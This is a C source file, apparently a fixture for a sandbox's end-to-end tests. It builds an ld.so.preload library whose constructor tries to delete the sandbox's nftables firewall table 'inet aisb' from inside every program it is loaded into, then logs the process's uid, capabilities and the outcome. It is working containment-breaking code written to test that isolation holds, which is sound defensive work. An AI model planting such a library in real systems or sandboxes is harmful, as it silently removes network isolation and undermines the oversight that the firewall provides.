/*
 * The hostile base image's /etc/ld.so.preload library (tests/e2e/
 * hostile_image.sh): loaded into every dynamically linked program of
 * the image, it tries to delete table inet aisb, the sandbox's firewall,
 * through one nftables batch (it succeeds wherever the process holds
 * CAP_NET_ADMIN in the network namespace), then appends one line to
 * aisb-preload.log in its working folder (a session's is the
 * workspace): pid, effective uid, effective capabilities, and what the
 * deletion did.  Nothing else; every failure is ignored, so that the
 * program it is loaded into runs on.
 */
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/time.h>

#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>

#include <endian.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static unsigned long long
capeff(void)
{
	char			 buf[4096], *p;
	unsigned long long	 v = 0;
	ssize_t			 n;
	int			 fd;

	if ((fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC)) == -1)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	if ((p = strstr(buf, "CapEff:")) != NULL)
		(void)sscanf(p + 7, "%llx", &v);
	return v;
}

/* one netlink message header and nfgenmsg at p; its length */
static size_t
msg(char *p, unsigned type, unsigned flags, unsigned seq, unsigned family,
    unsigned res_id, const char *table)
{
	struct nlmsghdr	*h = (struct nlmsghdr *)p;
	struct nfgenmsg	*g = (struct nfgenmsg *)(p + NLMSG_HDRLEN);
	struct nlattr	*a;
	size_t		 len = NLMSG_HDRLEN + NLMSG_ALIGN(sizeof(*g));

	h->nlmsg_type = (unsigned short)type;
	h->nlmsg_flags = (unsigned short)flags;
	h->nlmsg_seq = seq;
	h->nlmsg_pid = 0;
	g->nfgen_family = (unsigned char)family;
	g->version = NFNETLINK_V0;
	g->res_id = htobe16((unsigned short)res_id);
	if (table != NULL) {
		a = (struct nlattr *)(p + len);
		a->nla_type = NFTA_TABLE_NAME;
		a->nla_len = (unsigned short)(NLA_HDRLEN + strlen(table) + 1);
		memcpy((char *)a + NLA_HDRLEN, table, strlen(table) + 1);
		len += NLA_ALIGN(a->nla_len);
	}
	h->nlmsg_len = (unsigned)len;
	return len;
}

/* 0 when table inet aisb was deleted, else the errno that refused it */
static int
delete_table(void)
{
	char			 buf[512] __attribute__((aligned(8)));
	struct sockaddr_nl	 sa;
	struct timeval		 tv = { 1, 0 };
	struct nlmsghdr		*h;
	size_t			 len = 0;
	ssize_t			 n;
	int			 fd, rc = EIO;

	memset(buf, 0, sizeof(buf));
	len += msg(buf + len, NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, 1,
	    AF_UNSPEC, NFNL_SUBSYS_NFTABLES, NULL);
	len += msg(buf + len, (NFNL_SUBSYS_NFTABLES << 8) | NFT_MSG_DELTABLE,
	    NLM_F_REQUEST | NLM_F_ACK, 2, NFPROTO_INET, 0, "aisb");
	len += msg(buf + len, NFNL_MSG_BATCH_END, NLM_F_REQUEST, 3,
	    AF_UNSPEC, NFNL_SUBSYS_NFTABLES, NULL);
	if ((fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC,
	    NETLINK_NETFILTER)) == -1)
		return errno;
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	memset(&sa, 0, sizeof(sa));
	sa.nl_family = AF_NETLINK;
	if (sendto(fd, buf, len, 0, (struct sockaddr *)&sa, sizeof(sa)) ==
	    -1) {
		rc = errno;
		goto out;
	}
	if ((n = recv(fd, buf, sizeof(buf), 0)) < (ssize_t)NLMSG_HDRLEN)
		goto out;
	h = (struct nlmsghdr *)buf;
	if (h->nlmsg_type == NLMSG_ERROR)
		rc = -((struct nlmsgerr *)NLMSG_DATA(h))->error;
out:
	close(fd);
	return rc;
}

__attribute__((constructor)) static void
evil(void)
{
	char	 line[256];
	int	 fd, n, rc, saved = errno;

	rc = delete_table();
	n = snprintf(line, sizeof(line), "pid=%d uid=%d capeff=%llx "
	    "delete=%s\n", (int)getpid(), (int)geteuid(), capeff(),
	    rc == 0 ? "DELETED" : strerror(rc));
	if ((fd = open("aisb-preload.log", O_WRONLY | O_APPEND | O_CREAT |
	    O_CLOEXEC, 0666)) != -1) {
		(void)write(fd, line, (size_t)n);
		close(fd);
	}
	errno = saved;
}
